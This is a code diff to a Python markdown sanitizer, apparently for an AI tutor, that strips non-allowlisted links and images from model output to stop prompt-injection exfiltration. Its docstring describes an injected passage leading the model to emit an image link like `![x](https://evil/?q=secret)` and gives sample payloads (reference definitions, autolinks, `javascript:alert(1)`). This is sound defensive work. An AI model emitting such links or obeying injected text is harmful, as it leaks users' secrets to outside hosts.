@@ -3,8 +3,11 @@
 A prompt-injected passage could make the model emit `![x](https://evil/?q=secret)` (which a
 markdown renderer would fetch) or a link to a phishing page. Markdown images and links whose
 host is not on the allowlist (`LINK_ALLOWLIST`, empty by default) are removed; a removed link
-keeps its text. `StreamSanitizer` does the same on a token stream, holding back only the
-characters that may still turn into a link.
+keeps its text. That covers inline links and images (destinations with balanced parentheses,
+as in `javascript:alert(1)`), reference definitions (`[r]: https://evil/`) and autolinks
+(`<https://evil/>`); a `](` left over (a destination nested too deep to parse) is broken
+apart so that no renderer makes a link of it. `StreamSanitizer` does the same on a token
+stream, holding back only the characters that may still turn into a link.
 
 Canary: every answer's system prompt ends with a fresh random marker (`new_canary`). It
 appears in nothing a student can send or upload, so the model writes it only when it echoes
@@ -20,10 +23,25 @@ import secrets as _secrets
 from collections.abc import Iterable
 from urllib.parse import urlsplit
 
-_LINK = re.compile(r'(!?)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+"[^"\n]*")?\s*\)')
-_AUTOLINK = re.compile(r"<((?:https?|ftp|data|javascript):[^>\s]*)>", re.I)
-# A tail that could still grow into a markdown link or image: hold it back while streaming.
-_OPEN_TAIL = re.compile(r"!?(\[[^\]\n]*(\](\([^)\n]*)?)?)?$")
+# A link destination: no spaces, parentheses balanced one level deep (CommonMark allows them).
+_DEST = r"(?:[^()\s<>]|\([^()\s<>]*\))*"
+_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?(" + _DEST + r')>?(?:\s+"[^"\n]*")?\s*\)')
+# Inline links, or a "](" that is left when the destination could not be parsed.
+_LINK_OR_LEFTOVER = re.compile(f"{_LINK.pattern}|\\]\\(")
+# A reference definition, `[r]: <url> "title"` on a line of its own, to a URL-like destination.
+_REFDEF = re.compile(
+    r"^ {0,3}\[[^\]\n]+\]:[ \t]*<?((?:[a-z][a-z0-9+.-]*:|www\.|/)[^\s>]*)>?"
+    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*$""",
+    re.M | re.I,
+)
+_AUTOLINK = re.compile(r"<([a-z][a-z0-9+.-]{1,31}:[^<>\s]*)>", re.I)
+# A tail that could still grow into a markdown link, image or reference definition (until
+# the end of its line): hold it back while streaming.
+_OPEN_TAIL = re.compile(
+    r"!?(\[[^\]\n]*(\](\((?:[^()\n]|\([^()\n]*\))*(?:\([^()\n]*)?|:[^\n]*)?)?)?$"
+)
+# A tail that could still grow into an autolink.
+_OPEN_AUTOLINK = re.compile(r"<(?:[a-z][a-z0-9+.-]{0,31}(?::[^<>\s]*)?)?$", re.I)
 _MAX_HELD = 500
 
 
@@ -45,13 +63,19 @@ def sanitize(text: str, allowed_hosts: Iterable[str] = ()) -> str:
     hosts = frozenset(h.lower().strip() for h in allowed_hosts if h.strip())
 
     def replace(match: re.Match[str]) -> str:
+        if match.group(0) == "](":
+            return "] ("  # not a link any more, in any markdown
         is_image, label, url = match.group(1), match.group(2), match.group(3)
         if _allowed(url, hosts):
             return match.group(0)
         return "" if is_image else label
 
-    text = _LINK.sub(replace, text)
-    return _AUTOLINK.sub(lambda m: m.group(0) if _allowed(m.group(1), hosts) else "", text)
+    def keep_if_allowed(match: re.Match[str]) -> str:
+        return match.group(0) if _allowed(match.group(1), hosts) else ""
+
+    text = _LINK_OR_LEFTOVER.sub(replace, text)
+    text = _REFDEF.sub(keep_if_allowed, text)
+    return _AUTOLINK.sub(keep_if_allowed, text)
 
 
 class StreamSanitizer:
@@ -109,6 +133,12 @@ class StreamSanitizer:
         return best
 
     def _open_tail_start(self) -> int | None:
+        # A last "!" may still become an image ("![").
+        bang = len(self._held) - 1 if self._held.endswith("!") else None
+        starts = [self._open_link_start(), self._open_autolink_start(), bang]
+        return min((s for s in starts if s is not None), default=None)
+
+    def _open_link_start(self) -> int | None:
         # The last "[" (or "![") that has not been closed into a complete link yet.
         index = self._held.rfind("[")
         if index < 0 or len(self._held) - index > _MAX_HELD:
@@ -119,3 +149,10 @@ class StreamSanitizer:
         if _LINK.match(tail) or not _OPEN_TAIL.fullmatch(tail):
             return None
         return index
+
+    def _open_autolink_start(self) -> int | None:
+        # The last "<" that may still become `<scheme:...>`.
+        index = self._held.rfind("<")
+        if index < 0 or len(self._held) - index > _MAX_HELD:
+            return None
+        return index if _OPEN_AUTOLINK.fullmatch(self._held, index) else None
